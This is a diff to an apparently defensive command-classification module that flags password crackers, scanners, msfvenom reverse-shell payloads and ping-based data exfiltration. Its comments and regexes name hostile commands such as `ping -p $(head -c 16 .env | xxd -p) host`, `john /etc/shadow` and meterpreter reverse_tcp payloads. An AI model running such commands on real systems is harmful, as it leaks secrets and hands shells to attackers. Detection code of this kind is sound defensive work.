@@ -1,6 +1,6 @@
 // Name lookups, pings, scanners and captures.
 import { one_of } from '#core/compose.ts'
-import { emit, has, prints, reach, said, touch, value, values } from '#core/policy/effects/call.ts'
+import { type Call, emit, has, prints, reach, said, text_of, touch, value, values } from '#core/policy/effects/call.ts'
 import { address_of, is_address, is_near } from '#core/policy/effects/host/address.ts'
 import { UNKNOWN } from '#core/policy/effects/place/path.ts'
 import { type Does, nothing, type ProgramSpec, program, reads } from '#core/policy/effects/spec.ts'
@@ -73,15 +73,26 @@ export const SCANNER: Does = (call) => {
 /** Repositories whose purpose is to break into what they hold or start themselves. */
 const LAB =
   /(?:^|[/_.-])(?:pen-?test\w*|ctfs?|htb|thm|tryhackme|hackthebox|vulnhub|vulnlab|red-?team\w*|offsec|pwn|wargames?|malware-lab|security-lab)(?:[/_.-]|$)/i
+
+function is_lab({ command, frame }: Call): boolean {
+  return LAB.test(frame.workspace ?? command.cwd ?? '')
+}
+
+/** `linux/x64/meterpreter/reverse_tcp`: a program whose only purpose is to hand a shell to another machine. */
+const OPENS_SHELL =
+  /(?:shell|meterpreter)[/_](?:\w{1,20}[/_])?(?:reverse|bind)|(?:reverse|bind)_(?:tcp|http|php|bash|perl|python)/
+
 const ONLY_SHOWS = /^(?:--?(?:list|help|version|test|benchmark)\b|-[hVIb]$|$)/
 
 /** Guesses passwords: of files of such a repository, or of a service that is near. */
 const CRACKER: Does = (call) => {
-  const { command, frame } = call
   if (ONLY_SHOWS.test(said(call))) return nothing(call)
-  const lab = LAB.test(frame.workspace ?? command.cwd ?? '')
   const fields = { tool: call.name }
-  if (!lab) return void emit(call, 'net.scan', { target: call.operands[0]?.text ?? null, d2: 2, fields })
+  if (!is_lab(call)) {
+    // `john /etc/shadow`: what is guessed at is read.
+    for (const word of call.operands) if (/^[~/]/.test(word.text)) touch(call, 'fs.read', word)
+    return void emit(call, 'net.scan', { target: call.operands[0]?.text ?? null, d2: 2, fields })
+  }
   if (call.name === 'hydra') {
     const named = call.operands.filter(
       ({ text }) => /\D/.test(text) && (is_address(text) || is_near(address_of(text)?.kind ?? 'unknown')),
@@ -106,6 +117,14 @@ const MAKES_UP_NETWORK = one_of(
   /^(?:link|l) add (?:dev |name |link )*[\w.-]+ type (?:veth|vcan|vxcan|dummy|bridge)\b[^;]*$/,
   /^(?:link|l) (?:set|del|delete) (?:dev |up ){0,2}(?:veth|vcan|vxcan|dummy|br-test)[\w.-]*(?: (?:up|down|netns [\w-]+|mtu \d+|type vcan|master br-test[\w-]*))*$/,
 )
+
+/** `ping -p $(head -c 16 .env | xxd -p) host`: what fills the packets is sent along. */
+function filled_packets({ name, command: { args } }: Call): Word | undefined {
+  if (!/^f?ping6?$/.test(name)) return undefined
+  return args.find((word, at) => word.cert !== 'literal' && args[at - 1]?.text === '-p')
+}
+
+const RAW_PACKETS = { method: 'raw', source: 'inline', with_data: true } as const
 
 export const PROBES: readonly ProgramSpec[] = [
   program('hping3 hping nping', {
@@ -151,6 +170,8 @@ export const PROBES: readonly ProgramSpec[] = [
         },
       },
       does: (call) => {
+        const pattern = filled_packets(call)
+        if (pattern) return void reach(call, 'net.send', call.operands.at(-1) ?? pattern, RAW_PACKETS)
         const substituted = call.operands.find((word) => word.cert !== 'literal' && unknown_label(word))
         if (/^(?:f?ping|arping|nc)$/.test(call.name) && call.command.over !== undefined && call.operands.some(is_swept))
           emit(call, 'net.scan', { target: 'addresses of a network', d2: 1, fields: { tool: call.name } })
@@ -162,7 +183,7 @@ export const PROBES: readonly ProgramSpec[] = [
   ),
   program(
     'nmap masscan zmap rustscan nikto sqlmap gobuster dirb ffuf wfuzz nuclei wpscan feroxbuster amass ' +
-      'subfinder metasploit msfconsole msfvenom responder crackmapexec netexec enum4linux smbclient-scan ' +
+      'subfinder metasploit msfconsole responder crackmapexec netexec enum4linux smbclient-scan ' +
       'aircrack-ng bettercap ettercap mimikatz',
     {
       flags: {
@@ -173,6 +194,20 @@ export const PROBES: readonly ProgramSpec[] = [
       does: SCANNER,
     },
   ),
+  program('msfvenom', {
+    flags: {
+      payload: '-p --payload =',
+      other: '-f -o -e -b -a -i -x -n -s -v --platform --arch --format --out =',
+      list: '-l --list =?',
+    },
+    does: (call) => {
+      const payload = text_of(value(call, 'payload')) ?? ''
+      if (payload === '') nothing(call)
+      else if (!OPENS_SHELL.test(payload) || is_lab(call))
+        emit(call, 'net.scan', { target: payload, d2: 2, fields: { tool: call.name } })
+      else emit(call, 'net.shell', { target: payload, d2: 2, fields: { mechanism: 'payload' } })
+    },
+  }),
   program('hydra', { flags: { other: '-l -L -p -P -s -t -T -w -o -C -e -c -M -x =' }, does: CRACKER }),
   program('john hashcat fcrackzip pdfcrack medusa ncrack crowbar brutespray', { does: CRACKER }),
   program('tcpdump tshark wireshark dumpcap ngrep mitmproxy mitmdump mitmweb', {
